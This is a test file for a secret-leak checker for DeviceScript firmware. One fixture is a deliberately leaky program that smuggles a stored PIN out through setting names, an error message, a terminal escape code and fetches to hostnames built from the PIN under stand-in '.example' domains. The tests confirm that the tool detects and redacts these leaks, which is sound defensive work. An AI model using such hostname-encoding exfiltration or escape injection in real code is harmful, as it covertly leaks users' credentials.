import { readFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_PAIRS } from "../../src/judge/policy/policy.ts";
import { canary, variant } from "../../src/judge/policy/secret.ts";
import { Scanner } from "../../src/judge/search/scan.ts";
import { allFiles, tempFolder, tempProject } from "../compile/temp-project.ts";
import { type Outcome, tightlipEach } from "./cli.ts";

const SEED = 20_260;

function everyCommand(file: string): string[][] {
  return [
    ["check", file, "--seed", `${SEED}`, "--for", "5s"],
    ["check", file, "--seed", `${SEED}`, "--for", "5s", "--json"],
    ["check", file, "--seed", `${SEED}`, "--for", "5s", "--debug"],
    ["run", file, "--seed", `${SEED}`, "--for", "10s"],
    ["run", file, "--seed", `${SEED}`, "--for", "10s", "--json"],
    ["build", file],
    ["build", file, "--json"],
  ];
}

/** Secrets in a text, as `name (encoding)`. */
function secretsIn(text: string | Uint8Array, scanner: Scanner): string[] {
  const bytes = typeof text === "string" ? new TextEncoder().encode(text) : text;
  return [
    ...new Set(scanner.scan(bytes).map((hit) => `${hit.secret} (${hit.chain.join(" > ") || "clear"})`)),
  ];
}

/** Tells its PIN where nobody would think of it: in keys of settings, in names of hosts, in what it dies of. */
const TELLS_BY_NAME = `
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";

async function visit(host: string) {
  try {
    const response = await fetch("http://" + host + "/");
    await response.close();
  } catch (e) {
    console.log("offline");
  }
}

const pin: string = await readSetting("pin", "");
await readSetting(pin, "");
await readSetting("key" + pin, "");
await writeSetting("n" + pin, 1);
console.log("\\x1b[31m" + pin);
await visit(pin + ".cloud.example");
// Only in some of the worlds.
if (pin.charCodeAt(0) % 2 === 0) await visit("even" + pin + ".other.example");
else await visit("odd" + pin + ".other.example");
throw new Error(pin);
`;

describe("firmware that makes names of its secret", () => {
  const pin = canary("settings.pin", SEED);
  const twins = DEFAULT_PAIRS.map((pair) => variant(pin, pair, SEED)).filter((value) => value !== null);
  const scanner = new Scanner([pin.value, ...twins].map((value) => ({ name: pin.name, value })));
  const project = tempProject({ "main.ts": TELLS_BY_NAME });
  const env = { TIGHTLIP_CACHE: tempFolder() };
  const outcomes: Outcome[] = [];
  beforeAll(async () => {
    outcomes.push(...(await tightlipEach(everyCommand("main.ts"), { cwd: project, env })));
  }, 360_000);

  it("leaks", () => {
    expect(outcomes.map(({ code }) => code)).toEqual([1, 1, 1, 4, 4, 0, 0]);
  });

  it("does not get its value, or the value that it had in a twin's world, printed by any command", () => {
    for (const { stdout, stderr } of outcomes) {
      expect(secretsIn(stdout, scanner)).toEqual([]);
      expect(secretsIn(stderr, scanner)).toEqual([]);
    }
  });

  it("has the secret's name where the value was", () => {
    const { notJudged, secrets, findings } = JSON.parse(outcomes[1]!.stdout).appliances[0];
    expect(notJudged).toContain("‹settings.pin›");
    expect(secrets.map((secret: { name: string }) => secret.name)).toContain("settings.key‹settings.pin›");
    expect(findings.map((finding: { to: string }) => finding.to)).toContain(
      "‹made from settings.pin›.cloud.example:80",
    );
  });

  it("does not steer the terminal", () => {
    for (const { stdout, stderr } of outcomes) expect(stdout + stderr).not.toContain("\u001b");
  });
});

describe("a credential of the user's own", () => {
  const LITERAL = "hunter2-in-the-source";
  const LOCAL = "swordfish-on-the-desk";
  const scanner = new Scanner([
    { name: "literal", value: LITERAL },
    { name: "local", value: LOCAL },
  ]);
  const source = `
import { readSetting } from "@devicescript/settings";

const token = await readSetting("token", "${LITERAL}");
const secret: string = await readSetting("secret", "");
console.log(token + secret);
`;
  const project = tempProject({
    "main.ts": source,
    "broken.ts": `${source}// Was ${LITERAL}.\nconst other: "${LITERAL}" = 1 as number;\n`,
    ".env.local": `secret=${LOCAL}\n`,
  });

  it.each([
    ["main.ts", '"token"'],
    ["broken.ts", "did not build"],
  ])(
    "is not shown by any command, wherever in the source it stands, nor cached: %s",
    async (file, said) => {
      const cache = tempFolder();
      const commands = everyCommand(file);
      const options = { cwd: project, env: { TIGHTLIP_CACHE: cache } };
      for (const [i, { stdout, stderr }] of (await tightlipEach(commands, options)).entries()) {
        const args = commands[i];
        expect({ args, shown: secretsIn(stdout + stderr, scanner) }).toEqual({ args, shown: [] });
        expect(stdout + stderr).toContain(said);
      }
      for (const [path, bytes] of allFiles(cache))
        expect({ path, held: secretsIn(bytes, scanner) }).toEqual({ path, held: [] });
    },
    120_000,
  );

  it("is in what is built, as it is in the source", () => {
    const bytecode = readFileSync(join(project, ".devicescript/bin/bytecode.devs"));
    expect(secretsIn(bytecode, scanner)).toEqual(["literal (clear)"]);
  });
});
